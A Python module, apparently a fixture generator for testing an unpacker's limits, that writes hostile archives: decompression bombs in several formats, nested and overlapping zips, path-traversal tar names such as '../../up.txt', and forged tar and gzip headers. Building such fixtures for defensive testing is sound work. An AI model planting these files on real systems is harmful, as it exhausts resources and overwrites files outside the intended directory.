"""Write archives and compressed files that are made to harm who unpacks them."""

from __future__ import annotations

import bz2
import gzip
import io
import struct
import tarfile
import zipfile
import zlib
from pathlib import Path
from typing import Any

import pyarrow as pa

MIB = 1 << 20
SENTENCE = "“The bridge is safe,” the mayor said on Monday. "


def zeros(size: float, form: str) -> bytes:
    """Return `size` zero bytes, compressed piece by piece."""
    packers: dict[str, Any] = {"bz2": bz2.BZ2Compressor(), "gz": zlib.compressobj(9, wbits=31)}
    packer = packers.get(form) or zlib.compressobj(9, wbits=-15)
    piece = bytes(MIB)
    packed = [packer.compress(piece) for _ in range(max(1, int(size / MIB)))]
    return b"".join([*packed, packer.flush()])


def gzip_bomb(path: Path, scale: float) -> None:
    """Write zeros that gzip has packed."""
    path.write_bytes(zeros(1600 * MIB * scale, "gz"))


def bz2_bomb(path: Path, scale: float) -> None:
    """Write zeros that bzip2 has packed."""
    path.write_bytes(zeros(1600 * MIB * scale, "bz2"))


def zstd_bomb(path: Path, scale: float) -> None:
    """Write zeros that zstd has packed."""
    with pa.CompressedOutputStream(str(path), "zstd") as file:
        for _ in range(max(1, int(1600 * scale))):
            file.write(bytes(MIB))


def newline_bomb(path: Path, scale: float) -> None:
    """Write packed line ends."""
    with gzip.open(path, "wb", 6) as file:
        for _ in range(max(1, int(1600 * scale))):
            file.write(b"\n" * MIB)


def zip_bomb(path: Path, scale: float) -> None:
    """Write a zip of three members of zeros."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for number in range(3):
            with archive.open(f"{number}.txt", "w") as member:
                for _ in range(max(1, int(600 * scale))):
                    member.write(bytes(MIB))


def document_bomb(path: Path, scale: float) -> None:
    """Write a .docx file whose text unpacks to more than a GiB."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        with archive.open("word/document.xml", "w") as member:
            word = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
            member.write(f'<w:document xmlns:w="{word}"><w:body>'.encode())
            for _ in range(max(1, int(1600 * scale))):
                member.write(b"<w:p><w:r><w:t>Rain fell.</w:t></w:r></w:p>" * (MIB // 43))


def nested_bombs(path: Path, scale: float) -> None:
    """Write a zip of many zips, each of which unpacks to less than the limit."""
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w", zipfile.ZIP_DEFLATED) as archive:
        for number in range(8):
            archive.writestr(f"{number}.txt", bytes(max(1, int(16 * MIB * scale))))
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for number in range(60):
            archive.writestr(f"{number}.zip", inner.getvalue())


def nested_gzips(path: Path, scale: float) -> None:
    """Write a zip of many compressed files, each of which unpacks to less than the limit."""
    bomb = zeros(100 * MIB * scale, "gz")
    with zipfile.ZipFile(path, "w") as archive:
        for number in range(60):
            archive.writestr(f"{number}.txt.gz", bomb)


def deep_zip(path: Path, scale: float) -> None:
    """Write a zip in a zip in a zip."""
    raw = b"The bridge is safe."
    for depth in range(max(4, int(30 * scale))):
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
            archive.writestr("a.txt" if depth == 0 else "in.zip", raw)
        raw = out.getvalue()
    path.write_bytes(raw)


def overlapping_zip(path: Path, scale: float) -> None:
    """Write a zip of 200 members that share their bytes: each quotes the header of the next (David Fifield, 2019)."""
    size = max(1, int(10 * scale)) * MIB
    data, content = zeros(size, "raw"), bytes(size)
    files = b""
    entries = []
    for number in range(200, 0, -1):
        name = b"%03d.txt" % number
        values = (20, 0, 8, 0, 0, zlib.crc32(content), len(data), len(content), len(name), 0)
        header = struct.pack("<4s5H3L2H", b"PK\3\4", *values) + name
        entries.append(struct.pack("<4s6H3L5H", b"PK\1\2", 20, *values, 0, 0, 0) + bytes(4))
        files = header + data
        data = struct.pack("<BHH", 0, len(header), len(header) ^ 0xFFFF) + header + data  # a block that is stored
        content = header + content
    directory = b""
    for number, entry in enumerate(reversed(entries)):
        at = number * (5 + 30 + 7)
        directory += entry[:42] + struct.pack("<L", at) + b"%03d.txt" % (number + 1)
    end = struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, len(entries), len(entries), len(directory), len(files), 0)
    path.write_bytes(files + directory + end)


def many_members(path: Path, scale: float) -> None:
    """Write a zip of many tiny files."""
    with zipfile.ZipFile(path, "w") as archive:
        for number in range(int(1_000_000 * scale)):
            archive.writestr(zipfile.ZipInfo(f"{number}.txt"), b"Rain.")


def many_tar_members(path: Path, scale: float) -> None:
    """Write a tar of many tiny files."""
    with path.open("wb") as file:
        for number in range(int(1_000_000 * scale)):
            info = tarfile.TarInfo(f"{number}.txt")
            info.size = 5
            file.write(info.tobuf(tarfile.USTAR_FORMAT) + b"Rain.".ljust(512, b"\0"))
        file.write(bytes(1024))


def odd_names(path: Path, scale: float) -> None:
    """Write members with names that lead elsewhere, and one that is long."""
    with tarfile.open(path, "w") as archive:
        for name in ("../../up.txt", "/etc/absolute.txt", "a" * int(MIB * scale) + ".txt", "C:\\a.txt", "\udcff.txt"):
            info = tarfile.TarInfo(name)
            info.size = len(SENTENCE.encode())
            archive.addfile(info, io.BytesIO(SENTENCE.encode()))


def tar_headers(*headers: tuple[bytes, bytes, int], rest: bytes = b"") -> bytes:
    """Return tar headers of a type, with a name and a size that need not be true."""
    out = b""
    for kind, name, size in headers:
        info = tarfile.TarInfo(name.decode())
        info.type = kind
        buffer = bytearray(info.tobuf(tarfile.GNU_FORMAT))
        buffer[124:136] = (b"%011o\0" % size) if 0 <= size < 8**11 else b"\xff" * 4 + struct.pack(">q", size)
        buffer[148:156] = b" " * 8
        buffer[148:156] = b"%06o\0 " % sum(buffer)
        out += bytes(buffer)
    return out + rest


def huge_tar(path: Path, scale: float) -> None:
    """Write a member that is said to have 8 GB."""
    path.write_bytes(tar_headers((tarfile.REGTYPE, b"a.txt", 8**11 - 1), rest=b"Rain.".ljust(512, b"\0")))


def negative_tar(path: Path, scale: float) -> None:
    """Write a member of a negative length."""
    path.write_bytes(tar_headers((tarfile.REGTYPE, b"a.txt", -512), rest=bytes(2048)))


def header_tar(path: Path, scale: float) -> None:
    """Write an extended header of hundreds of MB."""
    size = int(1000 * MIB * scale)
    with path.open("wb") as file:
        file.write(tar_headers((tarfile.XHDTYPE, b"a.txt", size)))
        file.truncate(size + 2048)


def header_chain(path: Path, scale: float) -> None:
    """Write extended headers of extended headers."""
    record = b"12 path=abc\n".ljust(512, b"\0")
    path.write_bytes((tar_headers((tarfile.XHDTYPE, b"a.txt", 12)) + record) * int(20_000 * scale) + bytes(1024))


def slow_header(path: Path, scale: float) -> None:
    """Write an extended header that takes quadratic time where numbers are looked for in it."""
    content = (b"1" * 100 + b" ") * int(10_000 * scale)
    filled = content.ljust(-(-len(content) // 512) * 512, b"\0")
    path.write_bytes(tar_headers((tarfile.XHDTYPE, b"a.txt", len(content))) + filled + bytes(1024))


def sparse_tar(path: Path, scale: float) -> None:
    """Write a member that says that it has terabytes, of which none are stored."""
    buffer = bytearray(tar_headers((tarfile.GNUTYPE_SPARSE, b"a.txt", 0)))
    buffer[386:398], buffer[398:410] = b"00000000000\0", b"00000000000\0"
    buffer[483:495] = b"77777777777\0"
    buffer[148:156] = b" " * 8
    buffer[148:156] = b"%06o\0 " % sum(buffer)
    path.write_bytes(bytes(buffer) + bytes(1024))


def lying_gzip(path: Path, scale: float) -> None:
    """Write a gzip file with a wrong length."""
    raw = gzip.compress(SENTENCE.encode() * 100)
    path.write_bytes(raw[:-4] + struct.pack("<L", 7))


def trailing_gzip(path: Path, scale: float) -> None:
    """Write a gzip file with garbage after its end."""
    path.write_bytes(gzip.compress(SENTENCE.encode() * 100) + b"garbage" * 1000)


def cut_gzip(path: Path, scale: float) -> None:
    """Write a gzip file without its end."""
    path.write_bytes(gzip.compress(SENTENCE.encode() * 100)[:-20])
